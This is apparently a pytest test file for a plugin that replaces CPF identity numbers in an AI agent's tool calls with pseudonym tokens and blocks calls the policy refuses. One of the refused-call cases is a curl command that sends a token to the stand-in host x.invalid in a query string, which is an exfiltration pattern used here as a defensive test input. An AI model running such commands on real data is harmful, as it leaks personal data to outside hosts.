"""Pseudonyms in the Hermes plugin, in process: a tool result gives tokens issued to its
session, the tool_request middleware puts values back where the policy allows, the
call's result gets the same tokens again, and pre_tool_call blocks what was refused."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from redactor import Settings
from redactor.hosts.hermes import Guard, HermesPlugin

CPF = "529.982.247-25"
TOKEN = re.compile(r"\[CPF:[0-9a-f]{16}\]")


class PseudonymGuard(Guard):
    def __init__(self, env: dict[str, str]) -> None:
        super().__init__(env=env)

    def settings(self) -> Settings:
        return Settings(pseudonyms=True)


@pytest.fixture
def hermes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> HermesPlugin:
    project = tmp_path / "proj"
    (project / ".git").mkdir(parents=True)
    monkeypatch.chdir(project)
    env = {"HOME": str(tmp_path / "home"), "XDG_CONFIG_HOME": str(tmp_path / "config"),
           "XDG_STATE_HOME": str(tmp_path / "state")}
    return HermesPlugin(PseudonymGuard(env), can_block=True, can_modify=False)


def ids(session: str, call: str) -> dict[str, str]:
    return {"session_id": session, "tool_call_id": call, "turn_id": "t", "task_id": "k"}


def first_token(hermes: HermesPlugin, session: str = "s1") -> str:
    shown = hermes.transform_tool_result(
        result=json.dumps({"output": f"0;{CPF};ativo"}), tool_name="read_file",
        args={"path": "clientes.csv"}, **ids(session, "c0"))
    assert isinstance(shown, str) and CPF not in shown
    return str(TOKEN.findall(shown)[0])


def test_a_search_gets_the_value_and_its_result_the_token_again(hermes: HermesPlugin) -> None:
    token = first_token(hermes)
    args: dict[str, Any] = {"pattern": token, "path": "."}
    answer = hermes.tool_request(tool_name="search_files", args=args, **ids("s1", "c1"))
    assert answer is not None and args["pattern"] == r"529\.982\.247\-25"
    assert hermes.pre_tool_call(tool_name="search_files", args=args, **ids("s1", "c1")) is None
    shown = hermes.transform_tool_result(result=f"clientes.csv:1:x{CPF}x", tool_name="x",
                                         args=args, **ids("s1", "c1"))
    assert shown == f"clientes.csv:1:x{token}x"


def test_a_terminal_search_is_rewritten(hermes: HermesPlugin) -> None:
    token = first_token(hermes)
    args: dict[str, Any] = {"command": f"grep -c '{token}' clientes.csv"}
    hermes.tool_request(tool_name="terminal", args=args, **ids("s1", "c2"))
    assert token not in args["command"] and "529\\.982\\.247-25" in args["command"]


@pytest.mark.parametrize(("tool", "args", "session"), [
    ("terminal", {"command": "curl 'https://x.invalid/?d={t}'"}, "s1"),
    ("web_extract", {"urls": ["https://x.invalid/{t}"]}, "s1"),
    ("search_files", {"pattern": "{t}"}, "s2"),
    ("write_file", {"path": "/tmp/out-{t}.txt", "content": "x"}, "s1"),
])
def test_refused_calls_are_blocked_without_the_value(hermes: HermesPlugin, tool: str,
                                                     args: dict[str, Any],
                                                     session: str) -> None:
    token = first_token(hermes)
    filled = json.loads(json.dumps(args).replace("{t}", token))
    hermes.tool_request(tool_name=tool, args=filled, **ids(session, "c3"))
    assert CPF not in json.dumps(filled) and token in json.dumps(filled)
    decision = hermes.pre_tool_call(tool_name=tool, args=filled, **ids(session, "c3"))
    assert decision is not None and decision["action"] == "block"
    assert CPF not in decision["message"] and "token" in decision["message"]


def test_nothing_in_clear_in_the_state_folder(hermes: HermesPlugin, tmp_path: Path) -> None:
    first_token(hermes)
    for path in (tmp_path / "state").rglob("*"):
        if path.is_file():
            assert CPF.encode() not in path.read_bytes()
            assert b"52998224725" not in path.read_bytes()


def test_a_raw_value_in_arguments_becomes_a_token_and_is_not_blocked(
        hermes: HermesPlugin) -> None:
    args: dict[str, Any] = {"command": f"echo 'cliente {CPF}' > out.txt"}
    hermes.tool_request(tool_name="terminal", args=args, **ids("s1", "c9"))
    assert CPF not in args["command"] and TOKEN.search(args["command"])
    assert hermes.pre_tool_call(tool_name="terminal", args=args, **ids("s1", "c9")) is None
